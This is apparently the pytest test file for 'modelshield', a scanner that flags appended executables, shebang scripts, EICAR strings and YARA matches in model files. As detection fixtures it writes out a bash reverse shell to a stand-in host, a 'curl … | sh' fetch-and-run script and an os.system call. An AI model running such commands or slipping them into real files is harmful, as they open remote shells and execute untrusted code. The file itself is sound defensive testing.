"""Generic checks: embedded executables, shebang scripts, EICAR, YARA (bundled and --rules)."""

from __future__ import annotations

import json
import os
import struct
import sys
from pathlib import Path

import pytest

from modelshield.cli.main import main
from modelshield.formats.executables import EICAR, executable_kind
from modelshield.scan import scan
from modelshield.types import Severity

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\x00\x3e\x00" + b"\0" * 200


def cli(*args: str) -> int:
    try:
        main(["scan", "--no-progress", "-f", "json", "-o", os.devnull, *args])
    except SystemExit as exc:
        return int(exc.code or 0)
    return 0


def safetensors_bytes(trailer: bytes = b"") -> bytes:
    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + b"\0" * 8 + trailer


def pe_bytes() -> bytes:
    head = bytearray(b"MZ" + b"\0" * 0x7E)
    struct.pack_into("<I", head, 0x3C, 0x80)
    return bytes(head) + b"PE\0\0" + b"\0" * 64


def rule_ids(path: Path) -> dict[str, list]:
    out: dict[str, list] = {}
    for finding in scan(str(path)).findings:
        out.setdefault(finding.rule_id, []).append(finding)
    return out


def test_elf_appended_to_safetensors(tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    path.write_bytes(safetensors_bytes(ELF))
    assert cli(str(path)) == 1
    hits = rule_ids(path)["EMBEDDED-EXECUTABLE"]
    assert hits[0].severity is Severity.HIGH and hits[0].location.member
    assert "appended" in hits[0].message


def test_benign_safetensors_has_no_executable_finding(tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    path.write_bytes(safetensors_bytes())
    assert cli(str(path)) == 0


@pytest.mark.parametrize(
    ("data", "kind"),
    [(ELF, "ELF 64-bit"), (pe_bytes(), "PE (Windows executable)"), (b"\xcf\xfa\xed\xfe" + b"\0" * 60, "Mach-O 64-bit")],
)
def test_executables_in_a_model_folder(tmp_path: Path, data: bytes, kind: str) -> None:
    assert executable_kind(data) == kind
    (tmp_path / "helper").write_bytes(data)
    assert cli(str(tmp_path)) == 1
    assert rule_ids(tmp_path)["EMBEDDED-EXECUTABLE"][0].evidence.startswith(kind)


def test_mz_without_pe_header_is_not_an_executable() -> None:
    assert executable_kind(b"MZ" + b"\0" * 100) is None


def test_shell_script_is_high_python_script_is_reviewed(tmp_path: Path) -> None:
    (tmp_path / "install").write_text("#!/bin/sh\ncurl http://example.invalid | sh\n")
    (tmp_path / "tool").write_text("#!/usr/bin/env python3\nprint('hello')\n")
    report = scan(str(tmp_path))
    formats = {Path(a.path).name: a.format for a in report.artifacts}
    assert formats == {"install": "script", "tool": "python-source"}
    assert [f.rule_id for f in report.findings] == ["SHEBANG-SCRIPT"]


def test_eicar_file_is_critical(tmp_path: Path) -> None:
    path = tmp_path / "eicar.com"
    path.write_bytes(EICAR)
    assert cli(str(path)) == 1
    (hit,) = rule_ids(path)["EICAR-TEST-FILE"]
    assert hit.severity is Severity.CRITICAL and hit.location.offset == 0


def test_eicar_deep_in_text_and_in_trailing_bytes(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_bytes(b"# card\n" + b"x" * 5000 + b"\n" + EICAR + b"\n")
    (tmp_path / "model.safetensors").write_bytes(safetensors_bytes(EICAR))
    found = rule_ids(tmp_path)["EICAR-TEST-FILE"]
    assert {Path(f.location.path).name for f in found} == {"README.md", "model.safetensors"}


def test_eicar_before_a_real_format_keeps_the_real_reader(tmp_path: Path) -> None:
    path = tmp_path / "modeling_x.py"
    path.write_bytes(b"# " + EICAR + b"\nimport os\nos.system('id')\n")
    report = scan(str(path))
    assert report.artifacts[0].format == "python-source"
    assert sorted(f.rule_id for f in report.findings) == ["EICAR-TEST-FILE", "PY-PROCESS-EXEC"]


def test_bundled_yara_rules_match_reverse_shell(tmp_path: Path) -> None:
    pytest.importorskip("yara_x")
    (tmp_path / "README.md").write_text("# model\nrun: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
    assert cli(str(tmp_path)) == 1
    (hit,) = rule_ids(tmp_path)["YARA-MATCH"]
    assert "reverse_shell_strings" in hit.message and hit.severity is Severity.CRITICAL


def test_user_yara_rules_from_cli(tmp_path: Path) -> None:
    pytest.importorskip("yara_x")
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "mine.yar").write_text(
        'rule secret_marker { meta: severity = "high" strings: $a = "ZZ-SECRET-MARKER" condition: $a }'
    )
    model = tmp_path / "model"
    model.mkdir()
    (model / "notes.txt").write_text("hello ZZ-SECRET-MARKER\n")
    assert cli(str(model)) == 0
    try:
        assert cli("--rules", str(rules), str(model)) == 1
    finally:
        os.environ.pop("MODELSHIELD_YARA_RULES", None)


def test_bad_user_rules_are_a_usage_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("yara_x")
    (tmp_path / "bad.yar").write_text("rule broken { condition: $missing }")
    (tmp_path / "x.txt").write_text("x")
    try:
        code = cli("--rules", str(tmp_path), str(tmp_path / "x.txt"))
    finally:
        os.environ.pop("MODELSHIELD_YARA_RULES", None)
    assert code == 2 and "do not compile" in capsys.readouterr().err


def test_plain_text_is_recognised_not_unknown(tmp_path: Path) -> None:
    (tmp_path / "merges.txt").write_text("#version: 0.2\nĠ t\nĠ a\nh e\n", encoding="utf-8")
    (tmp_path / "vocab.txt").write_text("[PAD]\n[UNK]\nthe\n")
    report = scan(str(tmp_path))
    assert {a.format for a in report.artifacts} == {"text"} and not report.findings


def test_binary_garbage_stays_unknown(tmp_path: Path) -> None:
    (tmp_path / "blob.dat").write_bytes(bytes(range(256)) * 4)
    assert scan(str(tmp_path)).findings[0].rule_id == "UNKNOWN-CONTENT"


if sys.platform == "win32":  # pragma: no cover
    pytest.skip("POSIX paths", allow_module_level=True)
